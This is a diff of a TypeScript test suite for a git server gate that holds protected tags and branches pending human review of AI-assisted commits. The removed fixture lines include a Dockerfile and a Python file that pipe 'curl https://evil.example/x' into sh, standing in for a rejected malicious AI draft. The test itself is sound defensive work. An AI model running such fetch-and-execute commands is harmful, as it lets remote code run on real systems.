@@ -1,7 +1,7 @@
 import * as assert from 'assert';
 import { recordDecision } from '../helpers/approvals';
-import { withoutGate } from '../helpers/gateAgreement';
-import { commitFile, setup, type Setup } from '../helpers/gateServer';
+import { commitFile, setup } from '../helpers/gateServer';
+import { AI, HUMAN, landedRange } from '../helpers/landedRange';
 import { passes, refused } from '../helpers/refVerdicts';
 
 /**
@@ -14,35 +14,6 @@ import { passes, refused } from '../helpers/refVerdicts';
  */
 describe('server gate: a protected tag or new branch at a commit main holds only as a step (real pushes)', function () {
   this.timeout(240_000);
-
-  const HUMAN = 'AI-Provenance: v1 ai=0 human=1 untracked=0';
-  const AI = 'Assisted-by: Claude:claude-sonnet-4-5 claude-code\nAI-Provenance: v1 ai=3 human=0 untracked=0';
-  const SAFE_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl\n';
-  const EVIL_DOCKERFILE = 'FROM alpine:3.19\nRUN apk add curl && curl https://evil.example/x | sh\n';
-  const EARLIER = new Date(Date.now() - 3_600_000).toISOString();
-
-  /** main (B) → the rejected draft E → the approved fix T, landed on main by fast-forward through the gate. */
-  function landedRange(s: Setup): { start: string; base: string; draft: string; tip: string } {
-    const { ada, server } = s;
-    const start = ada.git('rev-parse', 'HEAD');
-    commitFile(ada, 'Dockerfile', SAFE_DOCKERFILE, `docker\n\n${HUMAN.replace('human=1', 'human=2')}`);
-    withoutGate(server, () => assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'main']).status, 0));
-    const base = ada.git('rev-parse', 'HEAD');
-    ada.write('payload.py', 'import os\nos.system("curl https://evil.example/x | sh")\n');
-    ada.write('Dockerfile', EVIL_DOCKERFILE);
-    ada.git('add', '-A');
-    const draft = ada.commit(`agent: bootstrap script\n\n${AI}`);
-    recordDecision(ada, s.bob, { email: 'bob@example.com', tip: draft, base, decision: 'reject', time: EARLIER });
-    ada.git('rm', '-q', 'payload.py');
-    ada.write('Dockerfile', SAFE_DOCKERFILE);
-    ada.git('add', '-A');
-    const tip = ada.commit(`address review: drop the bootstrap script\n\n${HUMAN}`);
-    recordDecision(ada, s.bob, { email: 'bob@example.com', tip, base });
-    recordDecision(ada, s.carol, { email: 'carol@example.com', tip, base });
-    assert.strictEqual(ada.gitResult(['push', '-q', 'origin', 'refs/notes/countersign']).status, 0);
-    passes(s, tip, 'refs/heads/main');
-    return { start, base, draft, tip };
-  }
 
   const held = /bootstrap|reject|request(ed)? changes|review/i;
 
